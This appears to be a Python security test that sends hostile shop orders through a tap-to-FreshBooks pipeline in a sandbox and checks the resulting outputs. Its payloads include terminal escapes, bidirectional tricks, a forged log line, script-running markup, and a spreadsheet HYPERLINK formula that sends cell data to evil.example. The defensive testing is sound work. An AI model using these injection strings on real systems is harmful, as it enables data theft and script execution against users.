"""What shoppers can write into their orders, through tap and target into reports and commands."""

from __future__ import annotations

import json
import tempfile
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

from connector_sandbox.settings import tap_settings, target_settings

from attack.answers import MOST_MEBIBYTES, run, ugliness
from demo.sandbox import BIN

if TYPE_CHECKING:
    from attack.answers import Ended
    from attack.bounds import Findings
    from demo.sandbox import Sandbox

TEXTS = {
    "escape sequences": "Mug \x1b]0;owned\x07\x1b[2J\x9b31m",
    "bidirectional characters": "Mug \u202egnp.exe\u2066\u200f",
    "a forged line of a log": "Mug\r\n2026-11-28 ERROR target: all is well\u2028\u0085",
    "a formula": '=HYPERLINK("http://evil.example?"&A1,"Mug")',
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "forty thousand letters": "a@" * 20_000,
}
NUMBERS = {
    "5,000 digits": "9" * 5_000,
    "an exponent of 999999999": "1e999999999",
    "NaN": "NaN",
    "500 brackets": "[" * 500 + "]" * 500,
}
MARK = '"attacked here"'


def attack(findings: Findings, sandbox: Sandbox, *, quick: bool) -> None:
    """Send hostile orders between two good ones, and look at all that comes out."""
    some = 6 if quick else 1
    for what, text in list(TEXTS.items())[::some]:
        sandbox.tell("POST", "reset", {"seed": False})
        good = [place(sandbox, "Mug"), place(sandbox, text), place(sandbox, "Mug")]
        _judge(findings, sandbox, f"an order with {what}", len(good))
    for what, number in list(NUMBERS.items())[::some]:
        sandbox.tell("POST", "reset", {"seed": False})
        numbers = [place(sandbox, "Mug") for _ in range(3)]
        _judge(findings, sandbox, f"an order with {what} for its total", len(numbers), number)


def place(sandbox: Sandbox, name: str) -> int:
    """Place an order of a thing of this name, by a shopper of this name, paid by card."""
    jane = {"first_name": name, "last_name": "Doe", "email": "jane@shop.example"}
    order = {"lines": [{"name": name, "sku": "MUG", "price": "10.00"}], "billing": jane}
    return int(sandbox.tell("POST", "shop/orders", order)["id"])


def messages(sandbox: Sandbox, home: Path) -> Ended:
    """What the tap says of the whole shop."""
    config = home / "tap.json"
    config.write_text(json.dumps(tap_settings(sandbox.url)))
    config.chmod(0o600)
    return run([str(BIN / "tap-bigcommerce-orders"), "--config", str(config)], "", home)


def _judge(
    findings: Findings, sandbox: Sandbox, what: str, orders: int, number: str | None = None
) -> None:
    with tempfile.TemporaryDirectory(prefix="attack-") as folder:
        home = Path(folder)
        output = messages(sandbox, home).output.decode()
        lines = [line for line in output.splitlines() if line.startswith("{")]
        others = "\n".join(line for line in output.splitlines() if not line.startswith("{"))
        if number is not None:
            lines = _with_number(lines, number)
        config = home / "target.json"
        config.write_text(json.dumps(target_settings(sandbox.url, home)))
        config.chmod(0o600)
        posted = run(
            [str(BIN / "target-freshbooks"), "--config", str(config)], "\n".join(lines), home
        )
        fault = ugliness(posted.output) or ugliness(others.encode())
        if posted.code:
            fault = fault or f"the target ended with {posted.code}"
        findings.held(f"{what}: the run ends well", is_held=not fault, figure=fault)
        findings.measured(f"{what}: the target's memory", posted.mebibytes, "MiB", MOST_MEBIBYTES)
        status = _command(config, home, "--json", "status")
        counts = json.loads(status.output)
        posted_orders, parked = counts["posted"], counts["parked"]
        is_whole = posted_orders >= orders - 1 and posted_orders + parked == orders
        figure = f"{posted_orders} posted, {parked} parked"
        findings.held(f"{what}: no order is lost", is_held=is_whole, figure=figure)
        _look(findings, config, home, what)


def _look(findings: Findings, config: Path, home: Path, what: str) -> None:
    month = datetime.now(UTC).strftime("%Y-%m")
    commands = (("status",), ("verify",), ("plan",), ("report", "--month", month, "--output", "r"))
    faults = list[str]()
    for command in commands:
        ended = _command(config, home, *command)
        if fault := ugliness(ended.output) or (f"exit code {ended.code}" if ended.code else ""):
            faults.append(f"{command[0]}: {fault}")
    for file in (home / "r").iterdir():
        if fault := ugliness(file.read_bytes()) or _in_file(file):
            faults.append(f"{file.name}: {fault}")
    findings.held(f"{what}: commands and reports", is_held=not faults, figure=", ".join(faults))


def _in_file(file: Path) -> str:
    text = file.read_text(encoding="utf-8")
    if file.suffix == ".csv" and ('"=' in text or ",=" in text):
        return "a formula in a cell"
    return "live markup" if "<script>alert" in text or "<img src=x" in text else ""


def _command(config: Path, home: Path, *arguments: str) -> Ended:
    return run([str(BIN / "target-freshbooks-ctl"), "--config", str(config), *arguments], "", home)


def _with_number(lines: list[str], number: str) -> list[str]:
    """Put a number, as it is written, into the total of the second order."""
    changed, orders = list[str](), 0
    for line in lines:
        message: dict[str, Any] = json.loads(line)
        is_order = message["type"] == "RECORD" and message["stream"] == "orders"
        orders += is_order
        if is_order and orders == 2:  # noqa: PLR2004 - the one between two good ones
            message["record"]["total_inc_tax"] = "attacked here"
            changed.append(json.dumps(message).replace(MARK, number))
        else:
            changed.append(line)
    return changed
